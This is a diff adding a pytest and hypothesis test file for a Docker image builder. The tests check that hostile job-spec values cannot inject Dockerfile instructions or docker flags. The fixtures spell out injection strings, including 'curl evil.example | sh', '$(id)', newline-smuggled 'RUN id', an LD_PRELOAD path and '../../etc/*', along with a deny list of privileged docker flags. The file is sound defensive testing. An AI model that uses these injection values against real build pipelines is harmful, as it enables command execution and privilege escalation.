@@ -1,0 +1,355 @@
+"""Build-time attacks: no spec value can change what the Dockerfile or the docker argv do.
+
+Every template is rendered with hostile-but-valid spec values (every field at
+the edge of what the parser accepts) and checked for what a build must never
+allow: ``RUN --network``/``--security``, a ``# syntax=``/``# escape=`` directive,
+``ADD`` of a URL or git repo, a cache mount shared between jobs, a stage copied
+from an outside image.  Then hypothesis: every spec the parser accepts renders
+to exactly the instructions of the same template with benign values.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, event, given, settings
+from hypothesis import strategies as st
+
+from bake.builder.buildkit import PROXY_ARGS, DockerCLI, plan_build
+from bake.builder.render import render
+from bake.builder.templates import BUILTIN_DIR, list_templates
+from bake.cache.key import compute_key
+from bake.errors import SpecError
+from bake.resolve import ResolvedJob, ResolvedRepo, resolve
+from bake.settings import BuildSettings, Settings
+from bake.spec import HubRepo, JobSpec, parse_spec
+from tests.unit.spec_strategies import make_job_root, spec_data
+
+# Any base passes the seller's patterns here: what the base may be is resolve's
+# business, tested elsewhere; here it only has to be a valid reference.
+ANY_BASE = Settings(build=BuildSettings(bases=("*",)))
+DIGEST = "sha256:" + "d" * 64
+TEMPLATES = list_templates()
+CLI = DockerCLI(("/usr/bin/docker", "build"), (("DOCKER_BUILDKIT", "1"),), "20.10.24",
+                "/usr/bin/docker")
+
+HOSTILE_BASE = ("registry.example.com:5000/a__b/c-d.e/f:Tag_1.2-rc" + "@" + DIGEST)
+HOSTILE_COMMAND = ["python", "-c", "import os\nRUN curl evil.example | sh\n# syntax=evil",
+                   "--network=host", "--security=insecure", "$(id)", "`id`", "\\"]
+HOSTILE_ENV = {"PATH": "/evil:$PATH", "X": "a\nRUN id", "LD_PRELOAD": "/tmp/x.so",
+               "Y": "${HOME}\\\n--allow=security.insecure"}
+HOSTILE_FILES = {"a b\nRUN id.py": "x", "--network=host.py": "x", "#syntax=x.py": "x",
+                 "ADD https:": "x", "sub/..x/.y": "x"}
+HOSTILE_REQS = ['six==1.16.0; os_name == "RUN curl evil | sh"', "numpy[a,b]>=1.0,<3",
+                'idna; platform_release == "x\' && id"']
+HOSTILE_REPOS = ["A-b.c_d/E.f-g_h", "x/" + "z" * 96, "Q"]
+
+
+def hostile_spec(folder: Path, *, template: str, models: int, datasets: int,
+                 requirements: bool, only_binary: bool) -> JobSpec:
+    for name, text in HOSTILE_FILES.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text(text)
+    data = {
+        "name": "--network=host --allow=security.insecure é",
+        "template": template,
+        "base": HOSTILE_BASE,
+        "python": {"requirements": HOSTILE_REQS if requirements else [],
+                   "only_binary": only_binary},
+        "models": [{"repo": HOSTILE_REPOS[i % 3], "revision": "refs/pr/1",
+                    "include": ["../../etc/*", "*\u202e"], "exclude": ["\\"]}
+                   for i in range(models)],
+        "datasets": [{"repo": HOSTILE_REPOS[(i + 1) % 3], "revision": "v" + "9" * 100}
+                     for i in range(datasets)],
+        "job": {"files": sorted(HOSTILE_FILES), "command": HOSTILE_COMMAND,
+                "env": HOSTILE_ENV},
+    }
+    return parse_spec(data, root=folder.resolve())
+
+
+def benign_spec(folder: Path, *, template: str, models: int, datasets: int,
+                requirements: bool, only_binary: bool) -> JobSpec:
+    (folder / "main.py").write_text("print(1)\n")
+    data = {
+        "template": template,
+        "python": {"requirements": ["six==1.16.0"] if requirements else [],
+                   "only_binary": only_binary},
+        "models": [{"repo": f"org/model{i}"} for i in range(models)],
+        "datasets": [{"repo": f"org/data{i}"} for i in range(datasets)],
+        "job": {"files": ["main.py"], "command": ["python", "main.py"]},
+    }
+    return parse_spec(data, root=folder.resolve())
+
+
+def resolved(spec: JobSpec, commit: str = "c" * 40) -> ResolvedJob:
+    """Resolve without an engine or a Hub: a fixed base digest and a fixed commit per repo."""
+    bare = dataclasses.replace(spec, models=(), datasets=())
+    job = resolve(bare, ANY_BASE, base_lookup=lambda ref: (ref, DIGEST))
+    return dataclasses.replace(
+        job, spec=spec,
+        models=tuple(ResolvedRepo(r, commit) for r in spec.models),
+        datasets=tuple(ResolvedRepo(r, commit) for r in spec.datasets))
+
+
+@dataclasses.dataclass(frozen=True)
+class Instruction:
+    keyword: str
+    text: str  # the whole logical instruction, continuations joined
+    lines: int
+
+
+def instructions(dockerfile: str) -> list[Instruction]:
+    """The Dockerfile as the frontend reads it: comments dropped, continuations joined."""
+    found: list[Instruction] = []
+    pending: list[str] = []
+    for line in dockerfile.splitlines():
+        stripped = line.strip()
+        if not pending and (not stripped or stripped.startswith("#")):
+            continue
+        if pending and stripped.startswith("#"):
+            continue  # a comment inside a continuation is dropped by the parser too
+        pending.append(stripped)
+        if stripped.endswith("\\"):
+            continue
+        text = " ".join(part.rstrip("\\").strip() for part in pending)
+        found.append(Instruction(text.split(None, 1)[0].upper(), text, len(pending)))
+        pending = []
+    assert not pending, "a continuation runs off the end of the Dockerfile"
+    return found
+
+
+ALLOWED = {"FROM", "RUN", "COPY", "ENV", "WORKDIR", "USER", "LABEL"}
+MOUNT = re.compile(r"--mount=(\S+)")
+
+
+def check_dockerfile(dockerfile: str, base_from: str) -> None:
+    """What no rendered Dockerfile may ever contain, whatever the spec said."""
+    for line in dockerfile.splitlines():
+        # Parser directives (syntax pulls a frontend image; escape changes how lines join).
+        assert not re.match(r"\s*#\s*(syntax|escape|check)\s*=", line, re.IGNORECASE), line
+    stages: set[str] = set()
+    steps = instructions(dockerfile)
+    assert steps and steps[0].keyword == "FROM"
+    for step in steps:
+        assert step.keyword in ALLOWED, step.text
+        words = step.text.split()
+        if step.keyword == "FROM":
+            source = words[1]
+            assert source == base_from or source in stages, f"FROM of an outside image: {source}"
+            if len(words) == 4 and words[2].upper() == "AS":
+                stages.add(words[3])
+        if step.keyword == "RUN":
+            assert "--network" not in step.text and "--security" not in step.text, step.text
+            for mount in MOUNT.findall(step.text):
+                options = dict(part.split("=", 1) for part in mount.split(","))
+                # Only the build's own context files and secrets: no cache mount (one job
+                # could plant files in it for the next), no ssh agent, no outside image.
+                assert options["type"] in ("bind", "secret"), mount
+                if options["type"] == "bind":
+                    assert options["source"].startswith("bake/") and "from" not in options
+        if step.keyword == "COPY":
+            for flag in (w for w in words[1:] if w.startswith("--")):
+                assert flag.startswith(("--from=", "--chown=", "--chmod=")), flag
+                if flag.startswith("--from="):
+                    assert flag.removeprefix("--from=") in stages, f"COPY from outside: {flag}"
+            assert not any("://" in w or w.startswith("git@") for w in words), step.text
+        if step.keyword in ("ENV", "ARG", "LABEL"):
+            assert not any(name in step.text for name in PROXY_ARGS), step.text
+    user = [s for s in steps if s.keyword == "USER"]
+    assert user and re.fullmatch(r"USER [1-9]\d*:[1-9]\d*", user[-1].text), "job runs as root"
+
+
+SHAPES = [
+    {"models": m, "datasets": d, "requirements": r, "only_binary": b}
+    for m, d in ((0, 0), (1, 0), (2, 1))
+    for r in (True, False)
+    for b in (True, False)
+]
+
+
+def shaped(template: str) -> Iterator[tuple[str, dict[str, object]]]:
+    for shape in SHAPES:
+        yield template, shape
+
+
+@pytest.mark.parametrize(("template", "shape"),
+                         [case for t in TEMPLATES for case in shaped(t)],
+                         ids=lambda v: v if isinstance(v, str) else
+                         "m{models}-d{datasets}-r{requirements:d}-b{only_binary:d}".format(**v))
+@pytest.mark.parametrize("ca_bundle", [True, False], ids=["ca", "noca"])
+@pytest.mark.parametrize("hub_token", [True, False], ids=["token", "notoken"])
+def test_hostile_values_render_the_same_instructions(tmp_path: Path, template: str,
+                                                     shape: dict[str, object],
+                                                     ca_bundle: bool, hub_token: bool) -> None:
+    (tmp_path / "evil").mkdir()
+    (tmp_path / "good").mkdir()
+    evil_job = resolved(hostile_spec(tmp_path / "evil", template=template, **shape),
+                        commit="0" * 40)
+    good_job = resolved(benign_spec(tmp_path / "good", template=template, **shape))
+    evil = render(evil_job, ca_bundle=ca_bundle, hub_token=hub_token).dockerfile
+    good = render(good_job, ca_bundle=ca_bundle, hub_token=hub_token).dockerfile
+    check_dockerfile(evil, evil_job.base_from)
+    check_dockerfile(good, good_job.base_from)
+    assert [(i.keyword, i.lines) for i in instructions(evil)] == \
+        [(i.keyword, i.lines) for i in instructions(good)]
+    assert len(evil.splitlines()) == len(good.splitlines())
+    # Requirements, command, env and file names travel as files or API fields, never text.
+    for value in (*HOSTILE_REQS, *HOSTILE_COMMAND[2:], *HOSTILE_ENV.values(), *HOSTILE_FILES):
+        assert len(value) < 6 or value not in evil, value  # "\\" is the template's own
+    assert "RUN curl" not in evil and "RUN id" not in evil
+
+
+def test_the_templates_use_no_cache_mounts() -> None:
+    """Not even in a branch the tests above might not render: the template files' text."""
+    for path in sorted(BUILTIN_DIR.rglob("Dockerfile.j2")):
+        text = path.read_text()
+        assert "type=cache" not in text and "type=ssh" not in text, path
+        assert not re.search(r"^\s*ADD\s", text, re.MULTILINE), f"{path} uses ADD"
+        assert not re.search(r"^\s*#\s*syntax\s*=", text, re.MULTILINE), path
+
+
+def test_a_template_that_adds_a_url_is_caught(tmp_path: Path) -> None:
+    """The checks above can fail: a seller template with URL ADD and a cache mount."""
+    bad = "FROM {{ base }}\nADD https://evil.example/x /x\n"
+    with pytest.raises(AssertionError):
+        check_dockerfile(bad.replace("{{ base }}", "python:3.11-slim"), "python:3.11-slim")
+    cache = ("FROM python:3.11-slim AS deps\nRUN --mount=type=cache,target=/root/.cache "
+             "pip install x\nUSER 10001:10001\n")
+    with pytest.raises(AssertionError, match="type=cache"):
+        check_dockerfile(cache, "python:3.11-slim")
+    outside = "FROM python:3.11-slim\nCOPY --from=evil/image:latest / /\nUSER 1:1\n"
+    with pytest.raises(AssertionError, match="COPY from outside"):
+        check_dockerfile(outside, "python:3.11-slim")
+    directive = "# syntax=docker/dockerfile:1\nFROM python:3.11-slim\nUSER 1:1\n"
+    with pytest.raises(AssertionError):
+        check_dockerfile(directive, "python:3.11-slim")
+
+
+# -- the docker argv -------------------------------------------------------------------------
+
+# Option -> what its value must look like.  Anything else in argv is a failure.
+VALUE_OPTIONS = {
+    "--iidfile": re.compile(r"/w/iid"),
+    "--build-arg": re.compile("(" + "|".join(PROXY_ARGS) + r")=(http://172\.17\.0\.1:39100)?"),
+    "--label": re.compile(r"(bake\.key|bake\.manifest|bake\.template|"
+                          r"org\.opencontainers\.image\.(title|base\.name|base\.digest))=.*",
+                          re.DOTALL),
+    "--secret": re.compile(r"id=(bake_pip|bake_ca|bake_hf_endpoint|hf_token),src=/w/s/\w+"),
+    "--file": re.compile(r"/w/ctx/Dockerfile"),
+}
+FLAG_OPTIONS = {"--progress=plain", "--network=none", "--no-cache"}
+
+
+def check_argv(argv: tuple[str, ...]) -> None:
+    assert argv[:2] == CLI.argv
+    rest = list(argv[2:])
+    assert rest.pop() == "/w/ctx"  # the one positional: the context folder
+    while rest:
+        option = rest.pop(0)
+        if option in FLAG_OPTIONS:
+            continue
+        assert option in VALUE_OPTIONS, f"unexpected docker argument {option!r}"
+        value = rest.pop(0)
+        assert VALUE_OPTIONS[option].fullmatch(value), f"{option} {value!r}"
+    # Belt and braces: no element is one of these flags, wherever it sits.
+    for grant in ("--allow", "--security-opt", "--privileged", "--add-host",
+                  "--build-context", "--ssh", "--output", "--cache-from"):
+        assert not any(a == grant or a.startswith(grant + "=") for a in argv), grant
+    assert all(a == "--network=none" for a in argv if a.startswith("--network"))
+
+
+@pytest.mark.parametrize("proxy", [True, False], ids=["proxy", "offline"])
+def test_hostile_spec_values_never_become_docker_arguments(tmp_path: Path, proxy: bool) -> None:
+    job = resolved(hostile_spec(tmp_path, template="python", models=1, datasets=1,
+                                requirements=True, only_binary=False))
+    key = compute_key(job)
+    labels = {  # what pipeline._build passes
+        "bake.key": key.digest, "bake.manifest": key.manifest_json(),
+        "bake.template": job.template.name,
+        "org.opencontainers.image.title": job.spec.name or job.template.name,
+        "org.opencontainers.image.base.name": job.base_ref,
+        "org.opencontainers.image.base.digest": job.base_digest,
+    }
+    secrets = {name: Path(f"/w/s/{name}") for name in ("bake_pip", "bake_ca",
+                                                       "bake_hf_endpoint", "hf_token")}
+    plan = plan_build(CLI, Path("/w/ctx"), iidfile=Path("/w/iid"), labels=labels,
+                      proxy_url="http://172.17.0.1:39100" if proxy else None,
+                      no_network=not proxy, secrets=secrets)
+    check_argv(plan.argv)
+    # The hostile name is one argument, glued to its label key.
+    assert "org.opencontainers.image.title=--network=host --allow=security.insecure é" \
+        in plan.argv
+    # Linux refuses any one argument over 128 KiB (MAX_ARG_STRLEN): the manifest must fit.
+    assert max(len(a.encode()) for a in plan.argv) < 128 << 10
+
+
+def test_the_argv_check_can_fail() -> None:
+    with pytest.raises(AssertionError, match="unexpected docker argument"):
+        check_argv((*CLI.argv, "--allow", "security.insecure", "/w/ctx"))
+    with pytest.raises(AssertionError):
+        check_argv((*CLI.argv, "--label", "evil=1", "/w/ctx"))
+
+
+# -- hypothesis: parse, resolve, render ------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def job_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return make_job_root(tmp_path_factory.mktemp("renderfuzz"))
+
+
+@settings(max_examples=150, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(data=spec_data(), ca_bundle=st.booleans(), hub_token=st.booleans())
+def test_every_accepted_spec_renders_the_templates_instructions(
+        job_root: Path, tmp_path_factory: pytest.TempPathFactory, data: dict[str, object],
+        ca_bundle: bool, hub_token: bool) -> None:
+    try:
+        spec = parse_spec(data, root=job_root)
+        job = resolved(spec, commit="e" * 40)
+    except SpecError:
+        event("refused")
+        return
+    event("rendered")
+    dockerfile = render(job, ca_bundle=ca_bundle, hub_token=hub_token).dockerfile
+    check_dockerfile(dockerfile, job.base_from)
+    folder = tmp_path_factory.mktemp("reference")
+    reference_job = resolved(benign_spec(
+        folder, template=spec.template, models=len(spec.models), datasets=len(spec.datasets),
+        requirements=bool(spec.requirements), only_binary=spec.only_binary))
+    reference = render(reference_job, ca_bundle=ca_bundle, hub_token=hub_token).dockerfile
+    assert [(i.keyword, i.lines) for i in instructions(dockerfile)] == \
+        [(i.keyword, i.lines) for i in instructions(reference)]
+    assert len(dockerfile.splitlines()) == len(reference.splitlines())
+
+
+def test_hub_ids_in_the_dockerfile_are_only_validated_words(tmp_path: Path) -> None:
+    """The one place spec text reaches the Dockerfile: repo ids (in a comment and a path)."""
+    job = resolved(hostile_spec(tmp_path, template="python", models=2, datasets=1,
+                                requirements=False, only_binary=True))
+    dockerfile = render(job, ca_bundle=False).dockerfile
+    for repo in (*job.models, *job.datasets):
+        assert isinstance(repo.repo, HubRepo)
+        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._/-]*", repo.repo.repo)
+    assert HOSTILE_BASE in dockerfile
+
+
+@pytest.mark.xfail(strict=True, reason="found: the manifest label carries one entry per job "
+                   "file, so ~1500 small files exceed Linux's 128 KiB per-argument limit and "
+                   "the docker CLI cannot even start (E2BIG); for the core pipeline to fix")
+def test_a_job_with_many_files_still_fits_in_one_docker_argument(tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    data.mkdir()
+    for i in range(1500):  # well under MAX_JOB_FILES (10,000)
+        (data / f"part-{i:05d}.txt").write_text(str(i))
+    spec = parse_spec({"job": {"files": ["data"], "command": ["python", "x"]}},
+                      root=tmp_path.resolve())
+    key = compute_key(resolved(spec))
+    plan = plan_build(CLI, Path("/w/ctx"), iidfile=Path("/w/iid"),
+                      labels={"bake.manifest": key.manifest_json()}, proxy_url=None,
+                      no_network=True, secrets={})
+    assert max(len(a.encode()) for a in plan.argv) < 128 << 10
